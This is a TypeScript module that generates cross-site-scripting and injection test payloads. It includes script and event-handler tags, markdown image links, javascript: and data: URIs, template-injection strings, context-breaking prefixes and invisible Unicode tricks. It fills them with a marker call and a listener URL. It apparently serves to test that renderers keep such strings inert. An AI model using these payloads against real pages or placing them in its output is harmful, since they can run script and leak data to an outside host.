/** Something that must stay mere text: what it would run or fetch if it were not. */
export type Payload = string

const TAGS = [
  '<script>MARK()</script>',
  '<img src=x onerror=MARK()>',
  '<img src="URL">',
  '<svg onload=MARK()>',
  '<svg><script>MARK()</script></svg>',
  '<svg><image href="URL"/></svg>',
  '<iframe src="URL"></iframe>',
  '<iframe srcdoc="<script>parent.MARK()</script>"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<link rel=stylesheet href="URL">',
  '<link rel=preload as=image href="URL">',
  '<style>@import "URL";</style>',
  '<style>*{background:url(URL)}</style>',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<base href="URL">',
  '<form action="URL"><input autofocus onfocus=MARK()></form>',
  '<body onload=MARK()>',
  '<video src="URL" onerror=MARK() autoplay></video>',
  '<audio src="URL" autoplay></audio>',
  '<details open ontoggle=MARK()>',
  '<math><mtext><script>MARK()</script></mtext></math>',
  '<a href="javascript:MARK()">MARK</a>',
  '<input type=image src="URL">',
  '<table background="URL">',
]
const MARKDOWN = [
  '![x](URL)',
  '[x](javascript:MARK())',
  '[x](URL "title")',
  '![x](URL =1x1)',
  '[x]: URL\n\n![x]',
  '<URL>',
  '```html\n<script>MARK()</script>\n```',
  '# <img src=x onerror=MARK()>',
  '| a |\n|---|\n| <img src=URL> |',
  '&lt;script&gt;MARK()&lt;/script&gt;',
]
const LINKS = [
  'URL',
  'javascript:MARK()',
  'data:text/html,<script>MARK()</script>',
  'vbscript:MARK()',
  'java\tscript:MARK()',
  '//HOST/x.js',
  'https://nowhere.invalid/x.png',
  'url(URL)',
  'expression(MARK())',
  'blob:URL',
]
const TRICKS = [
  '\u202E',
  '\u202D\u202C',
  '\u200B',
  '\u2066\u2069',
  '\uFEFF',
  '\u0000'.replace('\u0000', '\u2060'),
  '\u180E',
  '\u00AD',
]
const TEMPLATES = [
  '{{MARK()}}',
  '$\u007bMARK()}',
  '#{MARK()}',
  '<%= MARK() %>',
  '{%raw%}<script>MARK()</script>{%endraw%}',
  '__proto__',
  'constructor',
  '{"__html":"<img src=x onerror=MARK()>"}',
]
const BREAKS = [
  '"',
  "'",
  '`',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '</style>',
  '</script>',
  '"></option></select>',
]

/** So many payloads, each another: markup, markdown, links and templates, alone and behind whatever might let them out. */
export function payloads(
  count: number,
  { mark, listener }: { readonly mark: string; readonly listener: string },
): readonly Payload[] {
  const plain = [...TAGS, ...MARKDOWN, ...LINKS, ...TEMPLATES]
  const broken = BREAKS.flatMap((way) => TAGS.map((tag) => `${way}${tag}`))
  const hidden = TRICKS.flatMap((trick) =>
    TAGS.map((tag) => `${trick}${tag.replace('<', `<${trick}`)}${trick}${tag}`),
  )
  const all = [...plain, ...broken, ...hidden]
  const chosen = Array.from(
    { length: count },
    (_, nth) => `${all[nth % all.length]}${nth < all.length ? '' : ` ${nth}`}`,
  )
  const host = new URL(listener).host
  return chosen.map((text, nth) =>
    text.replaceAll('MARK', mark).replaceAll('URL', `${listener}/p${nth}`).replaceAll('HOST', host),
  )
}
